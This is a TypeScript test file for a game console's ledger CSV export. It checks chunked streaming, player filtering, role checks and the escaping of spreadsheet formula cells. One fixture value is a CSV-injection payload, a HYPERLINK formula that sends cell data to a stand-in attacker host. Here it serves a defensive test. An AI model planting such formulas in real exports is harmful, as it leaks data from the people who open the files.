// The HC Point ledger export over the real server (docs/console.md#jobs-and-exports, ADR 0054):
// 20,000 entries streamed as CSV in chunks, read from the database while the reply is being sent
// (an entry written after the first bytes left is still in the file, so the rows were not all
// loaded first); both sides of every transfer; a player filter; formula injection neutralised;
// bad ranges and unknown players refused; finance and owner only.
import { randomUUID } from 'node:crypto';
import { consoleApi, ErrorCode, LEDGER_CSV_COLUMNS, toUnixSeconds } from '@hc/contract';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createAccountsRepository } from '../src/modules/auth/accounts.repository';
import { creditHcPoint } from '../src/modules/wallet/wallet.service';
import { makeAccount } from './support/auth-fixtures';
import { consoleCall, signInOperator, type ConsoleClient } from './support/console';
import { testDatabases } from './support/databases';
import { createTestApp, type TestApp } from './support/helper';
import { expectLedgerInvariants } from './support/ledger';

const TRANSFERS = 10_000; // two entries each: 20,000 rows

describe.each(testDatabases())('console HC Point ledger export on %s', (kind) => {
  let t: TestApp;
  let finance: ConsoleClient;
  let owner: ConsoleClient;
  let support: ConsoleClient;
  let alice: { accountId: number; gameAccountId: number; account: string };
  let bob: { accountId: number; gameAccountId: number };
  let from: Date;
  let to: Date;

  async function player() {
    const a = await makeAccount(t.database.db);
    const gameAccountId = await createAccountsRepository(t.database.db).bindGameAccount(a.id, 1);
    await t.database.db
      .transaction()
      .execute((trx) =>
        creditHcPoint(trx, { gameAccountId, basic: 5, present: 0, idempotencyKey: randomUUID() }),
      );
    return { accountId: a.id, gameAccountId, account: a.account };
  }

  /** `n` one-point credits of a player's basic bucket from system_purchase, a second apart. */
  async function bulkCredits(gameAccountId: number, start: Date, n: number, prefix: string) {
    await t.database.db.transaction().execute(async (trx) => {
      await sql`insert into ledger_transfers (idempotency_key, kind, created_at)
        select ${prefix} || g, 'credit', ${start}::timestamptz + g * interval '1 second'
        from generate_series(1, ${n}::int) g`.execute(trx);
      await sql`insert into ledger_entries (transfer_id, ledger_account_id, amount, created_at)
        select t.id, a.id, s.amount, t.created_at
        from ledger_transfers t
        cross join (values ('basic', 1), ('system_purchase', -1)) as s (kind, amount)
        join ledger_accounts a on a.kind = s.kind
          and a.game_account_id is not distinct from
            (case when s.kind = 'basic' then ${gameAccountId}::bigint end)
        where t.idempotency_key like ${`${prefix}%`}
        order by t.id, s.amount desc`.execute(trx);
    });
  }

  /** One one-point credit at `at` (its own transfer). */
  const credit = (gameAccountId: number, key: string, at: Date) =>
    bulkCredits(gameAccountId, new Date(at.getTime() - 1000), 1, key);

  beforeAll(async () => {
    t = await createTestApp(kind);
    finance = await signInOperator(t, ['finance']);
    owner = await signInOperator(t, ['owner']);
    support = await signInOperator(t, ['support']);
    alice = await player();
    bob = await player();
    // A period of its own: the set-up credits above are stamped with the database's now().
    from = new Date('2031-01-01T00:00:00Z');
    to = new Date('2031-01-03T00:00:00Z');
    await bulkCredits(alice.gameAccountId, from, TRANSFERS / 2, 'bulk-a:');
    await bulkCredits(
      bob.gameAccountId,
      new Date(from.getTime() + 1000 * TRANSFERS),
      TRANSFERS / 2,
      'bulk-b:',
    );
    // Keys a spreadsheet would run as formulas.
    await credit(
      alice.gameAccountId,
      '=HYPERLINK("http://evil.example/?x="&A1)',
      new Date(from.getTime() + 500),
    );
  }, 120_000);
  afterEach(() => expectLedgerInvariants(t.database.db));
  afterAll(async () => {
    await t.app.close();
    await t.database.close();
  });

  const body = (over: Record<string, number> = {}) => ({
    from: toUnixSeconds(from),
    to: toUnixSeconds(to),
    ...over,
  });

  function rowsOf(text: string): Array<Record<string, string>> {
    return parse<Record<string, string>>(text, { columns: true });
  }

  it('streams 20,000 entries in chunks, reading the database while the reply is sent', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: consoleApi.consoleLedgerExport.path,
      headers: { cookie: `hc_console=${finance.token}`, 'x-csrf-token': finance.csrfToken },
      payload: body(),
      payloadAsStream: true,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename=.*\.csv/);
    const stream = res.stream();
    const chunks: Buffer[] = [];
    const iterator = stream[Symbol.asyncIterator]() as AsyncIterator<Buffer>;
    const first = await iterator.next();
    expect(first.done).toBe(false);
    chunks.push(first.value as Buffer);
    // Written after the first bytes were sent, at the end of the period: it can only be in the
    // file if the export reads the ledger batch by batch as the reply goes out.
    await credit(bob.gameAccountId, 'late-entry', new Date(to.getTime() - 1000));
    for (;;) {
      const next = await iterator.next();
      if (next.done === true) break;
      chunks.push(next.value);
    }
    expect(chunks.length).toBeGreaterThan(10);
    const text = Buffer.concat(chunks).toString('utf8');
    const rows = rowsOf(text);
    expect(text.split('\n', 1)[0]).toBe(LEDGER_CSV_COLUMNS.join(','));
    expect(rows.filter((r) => r.transfer_key?.startsWith('bulk-'))).toHaveLength(2 * TRANSFERS);
    expect(rows.filter((r) => r.transfer_key === 'late-entry1')).toHaveLength(2);
    // Oldest first, each entry once.
    const ids = rows.map((r) => Number(r.entry_id));
    expect(new Set(ids).size).toBe(ids.length);
    const sample = rows.find((r) => r.transfer_key === 'bulk-a:1' && r.bucket === 'basic');
    expect(sample).toMatchObject({
      transfer_kind: 'credit',
      account_id: String(alice.accountId),
      account: alice.account,
      game_account_id: String(alice.gameAccountId),
      game_id: '1',
      amount: '1',
    });
    const counter = rows.find((r) => r.transfer_key === 'bulk-a:1' && r.bucket !== 'basic');
    expect(counter).toMatchObject({ bucket: 'system_purchase', account_id: '', amount: '-1' });
    // Both sides of every transfer: the file sums to zero.
    expect(rows.reduce((s, r) => s + Number(r.amount), 0)).toBe(0);
  }, 120_000);

  it('filters by player and neutralises formula cells', async () => {
    const r = await consoleCall(
      t.app,
      consoleApi.consoleLedgerExport,
      body({ accountId: alice.accountId }),
      owner,
    );
    expect(r.status).toBe(200);
    const rows = rowsOf(r.text);
    expect(rows.length).toBe(TRANSFERS / 2 + 1);
    expect(rows.every((x) => x.account_id === String(alice.accountId))).toBe(true);
    const formula = rows.find((x) => x.transfer_key?.includes('HYPERLINK'));
    expect(formula?.transfer_key).toBe(`'=HYPERLINK("http://evil.example/?x="&A1)1`);
    expect(r.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('refuses a bad period, an unknown player and the other roles', async () => {
    const f = toUnixSeconds(from);
    for (const b of [
      { from: f, to: f },
      { from: f, to: f - 10 },
      { from: f, to: f + 367 * 86_400 },
    ]) {
      const r = await consoleCall(t.app, consoleApi.consoleLedgerExport, b, finance);
      expect(r.code).toBe(ErrorCode.LedgerExportRangeInvalid);
      expect(r.headers['content-type']).toMatch(/^application\/json/);
    }
    const unknown = await consoleCall(
      t.app,
      consoleApi.consoleLedgerExport,
      body({ accountId: 987_654_321 }),
      finance,
    );
    expect(unknown.code).toBe(ErrorCode.LedgerExportPlayerNotFound);
    const refused = await consoleCall(t.app, consoleApi.consoleLedgerExport, body(), support);
    expect([refused.status, refused.code]).toEqual([403, ErrorCode.ConsoleForbidden]);
  });
});
